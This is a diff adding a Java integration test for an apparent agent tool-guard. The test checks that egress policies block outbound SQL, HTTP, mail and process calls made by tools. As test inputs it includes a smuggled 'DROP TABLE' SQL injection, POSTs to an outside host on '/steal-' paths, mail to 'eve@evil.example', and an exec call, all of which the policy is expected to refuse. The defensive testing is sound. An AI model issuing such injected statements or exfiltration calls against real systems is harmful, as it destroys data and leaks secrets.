@@ -1,0 +1,309 @@
+package dev.toolguard.it.egress;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.icegreen.greenmail.util.GreenMail;
+import com.icegreen.greenmail.util.ServerSetup;
+import com.sun.net.httpserver.HttpServer;
+import dev.toolguard.it.agent.AgentProcess;
+import dev.toolguard.it.agent.AuditFile;
+import dev.toolguard.it.agent.Scenario;
+import dev.toolguard.it.agent.apps.EgressApp;
+import org.h2.tools.Server;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.net.InetSocketAddress;
+import java.net.ServerSocket;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.sql.ResultSet;
+import java.sql.Statement;
+import java.time.Duration;
+import java.util.List;
+import java.util.Optional;
+import java.util.concurrent.CopyOnWriteArrayList;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+
+/**
+ * SPEC §18, acceptance 1 to 5 of the egress issue: what a guarded tool's body sends out through JDBC, the four HTTP
+ * clients, Jakarta and javax Mail and child processes is checked against the tool's {@code egress} rules and the
+ * bundle's {@code sequences}, and refused at its call site before anything leaves: the real database's table is
+ * intact, the real HTTP server's request log and the real SMTP server's inbox stay empty. One app, one H2 TCP server,
+ * one HTTP server and one GreenMail serve every test, each with calls and sessions of its own.
+ */
+class EgressIT {
+
+    static final String POLICY = """
+            apiVersion: toolguard.dev/v1
+            kind: Policy
+            metadata: {name: egress-it, version: "1"}
+            default: deny
+            egress:
+              default_in_tools: allow
+              outside_tools: audit
+            tools:
+              crm.read_account:
+                action: allow
+                egress:
+                  sql: {statements: [select], tables: ["crm.*"]}
+                  http: {hosts: ["crm.internal"], methods: [GET, POST]}
+              email.send_external:
+                action: allow
+                egress:
+                  mail: {recipients: ["*@partner.example"]}
+                  http: deny
+              report.export:
+                action: allow
+                egress:
+                  http: {hosts: ["*"]}
+              ops.inspect:
+                action: allow
+                egress:
+                  sql: allow
+            sequences:
+              - name: no-crm-exfiltration
+                after: ["crm.read*"]
+                deny: ["egress:http:POST:*"]
+                within: session
+                reason: CRM data may not leave by HTTP POST
+            """;
+
+    @TempDir
+    static Path dir;
+    static Scenario scenario;
+    static AgentProcess app;
+    static Server h2;
+    static String jdbcUrl;
+    static HttpServer http;
+    static int httpPort;
+    /** Every request the HTTP server received: method, path, and the Authorization header it carried. */
+    static final List<String> requests = new CopyOnWriteArrayList<>();
+    static GreenMail smtp;
+
+    @BeforeAll
+    static void startTheComponentsAndTheApp() throws Exception {
+        int dbPort = freePort();
+        h2 = Server.createTcpServer("-tcpPort", String.valueOf(dbPort), "-ifNotExists").start();
+        jdbcUrl = "jdbc:h2:tcp://127.0.0.1:" + dbPort + "/mem:crm;DB_CLOSE_DELAY=-1";
+        try (Connection c = DriverManager.getConnection(jdbcUrl, "sa", ""); Statement s = c.createStatement()) {
+            s.execute("CREATE SCHEMA crm; CREATE TABLE crm.accounts(id VARCHAR PRIMARY KEY, tier VARCHAR);"
+                    + " INSERT INTO crm.accounts VALUES ('acct-42', 'silver');"
+                    + " CREATE SCHEMA hr; CREATE TABLE hr.salaries(name VARCHAR, amount INT);"
+                    + " INSERT INTO hr.salaries VALUES ('bob', 100)");
+        }
+        http = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
+        http.createContext("/", exchange -> {
+            String auth = exchange.getRequestHeaders().getFirst("Authorization");
+            requests.add(exchange.getRequestMethod() + " " + exchange.getRequestURI().getPath() + " auth=" + auth);
+            exchange.getRequestBody().readAllBytes();
+            byte[] body = "hello".getBytes(StandardCharsets.UTF_8);
+            exchange.sendResponseHeaders(200, body.length);
+            exchange.getResponseBody().write(body);
+            exchange.close();
+        });
+        http.start();
+        httpPort = http.getAddress().getPort();
+        smtp = new GreenMail(new ServerSetup(freePort(), "127.0.0.1", ServerSetup.PROTOCOL_SMTP));
+        smtp.start();
+
+        scenario = new Scenario(dir);
+        scenario.write("policies/egress.yaml", POLICY);
+        scenario.config("");
+        // the app resolves the test's host names to this machine, as a DNS entry would
+        Path hosts = scenario.write("hosts", "127.0.0.1 crm.internal outside.example localhost\n");
+        app = scenario.app().property("jdk.net.hosts.file", hosts.toString())
+                .alsoOnClasspath(AgentProcess.testClasspathJars("h2-", "jakarta.mail", "jakarta.activation",
+                        "angus-", "javax.mail", "activation-", "httpclient5", "httpcore5", "okhttp", "okio",
+                        "kotlin-stdlib", "slf4j-api"))
+                .agentOptions("config=" + scenario.file("toolguard.yaml"))
+                .main(EgressApp.class, jdbcUrl, String.valueOf(smtp.getSmtp().getPort()))
+                .start();
+        await().atMost(Duration.ofSeconds(60)).until(() -> app.stdout().contains("ready") || !app.alive());
+        assertThat(app.alive()).as(app.stderr()).isTrue();
+        // every sensor fits this JDK and these libraries
+        assertThat(app.stderr()).doesNotContain("not applied").doesNotContain("could not install");
+    }
+
+    @AfterAll
+    static void stopEverything() throws Exception {
+        if (app != null) {
+            app.close();
+        }
+        if (smtp != null) {
+            smtp.stop();
+        }
+        if (http != null) {
+            http.stop(0);
+        }
+        if (h2 != null) {
+            h2.stop();
+        }
+    }
+
+    // ---- 1. JDBC ----
+
+    @Test
+    void aToolAllowedSelectOnCrmRunsItsSelectButNotItsUpdateAnotherSchemaOrASmuggledDrop() throws Exception {
+        assertThat(call("s1", "crm.read_account", "sql SELECT tier FROM crm.accounts WHERE id = 'acct-42'"))
+                .isEqualTo("ok rows");
+        assertThat(call("s1", "crm.read_account", "psql SELECT tier FROM crm.accounts")).isEqualTo("ok rows");
+
+        String update = call("s1", "crm.read_account", "sql UPDATE crm.accounts SET tier = 'platinum'");
+        assertThat(update).startsWith("denied rule=tools.crm.read_account.egress.sql message=Denied by policy egress-it:")
+                .contains("statement update is not among [select]");
+        String prepared = call("s1", "crm.read_account", "psql UPDATE crm.accounts SET tier = 'gold'");
+        assertThat(prepared).startsWith("denied rule=tools.crm.read_account.egress.sql");
+        String salaries = call("s1", "crm.read_account", "sql SELECT amount FROM hr.salaries");
+        assertThat(salaries).startsWith("denied rule=tools.crm.read_account.egress.sql").contains("table hr.salaries");
+        String smuggled = call("s1", "crm.read_account", "sql SELECT 1 FROM crm.accounts; DROP TABLE crm.accounts");
+        assertThat(smuggled).startsWith("denied rule=tools.crm.read_account.egress.sql").contains("statement drop");
+        String unparseable = call("s1", "crm.read_account", "sql SELEKT everything FROM crm.accounts");
+        assertThat(unparseable).startsWith("denied rule=tools.crm.read_account.egress.sql").contains("cannot be read");
+
+        // the database never saw them
+        assertThat(query("SELECT tier FROM crm.accounts WHERE id = 'acct-42'")).isEqualTo("silver");
+        assertThat(query("SELECT COUNT(*) FROM hr.salaries")).isEqualTo("1");
+
+        // each refusal is an egress record linked to its call's decision record
+        JsonNode decision = decisionFor("UPDATE crm.accounts SET tier = 'platinum'");
+        JsonNode egress = egressRecords().stream().filter(r -> r.path("id").asText().equals(decision.path("id").asText()))
+                .findFirst().orElseThrow(() -> new AssertionError("no egress record for " + decision));
+        assertThat(egress.path("tool").asText()).isEqualTo("crm.read_account");
+        assertThat(egress.path("kind").asText()).isEqualTo("sql");
+        assertThat(egress.path("action").asText()).isEqualTo("deny");
+        assertThat(egress.path("rule").asText()).isEqualTo("tools.crm.read_account.egress.sql");
+        assertThat(egress.path("target").asText()).isEqualTo("update crm.accounts");
+        // the body ran (its call was allowed) and ended with the refusal
+        assertThat(AuditFile.ofType(scenario.audit(), "outcome")).anySatisfy(o -> {
+            assertThat(o.path("id").asText()).isEqualTo(decision.path("id").asText());
+            assertThat(o.path("error").asText()).isEqualTo("dev.toolguard.api.ToolCallDeniedException");
+        });
+    }
+
+    // ---- 2. HTTP, four clients ----
+
+    @Test
+    void aPostToAHostNotInTheToolsListIsRefusedBeforeTheServerReceivesAnythingForEachClient() throws Exception {
+        for (String client : List.of("jdk", "url", "apache", "okhttp")) {
+            String out = call("s2", "crm.read_account", client + " POST http://outside.example:" + httpPort
+                    + "/steal-" + client);
+            assertThat(out).as(client).startsWith("denied rule=tools.crm.read_account.egress.http")
+                    .contains("host outside.example:" + httpPort);
+            String allowed = call("s2-" + client, "report.export", client + " POST http://outside.example:" + httpPort
+                    + "/report-" + client);
+            assertThat(allowed).as(client).isEqualTo("ok status 200 hello");
+        }
+        assertThat(requests).noneMatch(r -> r.contains("/steal-"));
+        assertThat(requests).anyMatch(r -> r.startsWith("POST /report-okhttp"));
+        assertThat(egressRecords()).anySatisfy(r -> {
+            assertThat(r.path("kind").asText()).isEqualTo("http");
+            assertThat(r.path("target").asText()).isEqualTo("POST outside.example:" + httpPort);
+            assertThat(r.path("action").asText()).isEqualTo("deny");
+        });
+    }
+
+    // ---- 3. mail ----
+
+    @Test
+    void mailToANonPartnerIsRefusedAndTheSmtpServerReceivesNothing() throws Exception {
+        for (String api : List.of("jakarta", "javax")) {
+            String out = call("s3", "email.send_external", api + " eve@evil.example");
+            assertThat(out).as(api).startsWith("denied rule=tools.email.send_external.egress.mail")
+                    .contains("recipient eve@evil.example");
+        }
+        assertThat(smtp.getReceivedMessages()).isEmpty();
+        assertThat(call("s3", "email.send_external", "jakarta bob@partner.example")).isEqualTo("ok sent to bob@partner.example");
+        assertThat(call("s3", "email.send_external", "javax carol@partner.example")).isEqualTo("ok sent to carol@partner.example");
+        await().atMost(Duration.ofSeconds(10)).until(() -> smtp.getReceivedMessages().length == 2);
+        assertThat(List.of(smtp.getReceivedMessages())).allSatisfy(m ->
+                assertThat(m.getAllRecipients()[0].toString()).endsWith("@partner.example"));
+    }
+
+    // ---- 4. processes ----
+
+    @Test
+    void aToolStartingAProcessIsRefusedWhenExecIsNotAllowed() throws Exception {
+        Path marker = dir.resolve("process-ran");
+        String viaBuilder = call("s4", "ops.inspect", "exec touch " + marker);
+        assertThat(viaBuilder).startsWith("denied rule=tools.ops.inspect.egress.exec").contains("may not use exec");
+        String viaRuntime = call("s4", "ops.inspect", "runtime touch " + marker);
+        assertThat(viaRuntime).startsWith("denied rule=tools.ops.inspect.egress.exec");
+        assertThat(marker).doesNotExist();
+        // outside any guarded call, egress.outside_tools: audit lets it run and writes it down
+        assertThat(call("s4", "-", "exec touch " + marker)).isEqualTo("ok exit 0");
+        assertThat(marker).exists();
+        assertThat(egressRecords()).anySatisfy(r -> {
+            assertThat(r.path("id").isNull()).isTrue();
+            assertThat(r.path("kind").asText()).isEqualTo("exec");
+            assertThat(r.path("rule").asText()).isEqualTo("egress.outside_tools");
+            assertThat(r.path("action").asText()).isEqualTo("allow");
+        });
+    }
+
+    // ---- 5. sequences over egress events ----
+
+    @Test
+    void afterACrmReadInASessionAnOutsidePostFromAnyToolOfThatSessionIsRefusedByASequence() throws Exception {
+        assertThat(call("s5", "report.export", "jdk POST http://outside.example:" + httpPort + "/before-read"))
+                .isEqualTo("ok status 200 hello");
+        assertThat(call("s5", "crm.read_account", "sql SELECT tier FROM crm.accounts")).isEqualTo("ok rows");
+        String after = call("s5", "report.export", "url POST http://outside.example:" + httpPort + "/after-read");
+        assertThat(after).isEqualTo("denied rule=sequences.no-crm-exfiltration message=Denied by policy egress-it:"
+                + " CRM data may not leave by HTTP POST [sequences.no-crm-exfiltration]");
+        // a GET is no POST, and another session read nothing
+        assertThat(call("s5", "report.export", "jdk GET http://outside.example:" + httpPort + "/get-after-read"))
+                .isEqualTo("ok status 200 hello");
+        assertThat(call("s5-other", "report.export", "jdk POST http://outside.example:" + httpPort + "/other-session"))
+                .isEqualTo("ok status 200 hello");
+        assertThat(requests).anyMatch(r -> r.startsWith("POST /before-read")).noneMatch(r -> r.contains("/after-read"));
+    }
+
+    // ---- helpers ----
+
+    private static int labels;
+
+    /** Makes one call in the app and returns what came of it. */
+    static synchronized String call(String session, String tool, String opAndArgument) throws Exception {
+        String label = "c" + (++labels);
+        app.send(label + " " + session + " " + tool + " " + opAndArgument);
+        String[] line = new String[1];
+        await().atMost(Duration.ofSeconds(60)).until(() -> {
+            Optional<String> l = app.stdoutLines().stream().filter(s -> s.startsWith("call " + label + ": ")).findFirst();
+            l.ifPresent(s -> line[0] = s);
+            return l.isPresent() || !app.alive();
+        });
+        assertThat(line[0]).as(app.stderr()).isNotNull();
+        return line[0].substring(("call " + label + ": ").length());
+    }
+
+    static List<JsonNode> egressRecords() {
+        return AuditFile.ofType(scenario.audit(), "egress");
+    }
+
+    static JsonNode decisionFor(String argument) {
+        return AuditFile.ofType(scenario.audit(), "decision").stream()
+                .filter(d -> d.path("args").path("argument").asText().equals(argument)).findFirst()
+                .orElseThrow(() -> new AssertionError("no decision record with argument " + argument));
+    }
+
+    static String query(String sql) throws Exception {
+        try (Connection c = DriverManager.getConnection(jdbcUrl, "sa", ""); Statement s = c.createStatement();
+             ResultSet r = s.executeQuery(sql)) {
+            r.next();
+            return r.getString(1);
+        }
+    }
+
+    static int freePort() throws Exception {
+        try (ServerSocket s = new ServerSocket(0)) {
+            return s.getLocalPort();
+        }
+    }
+}
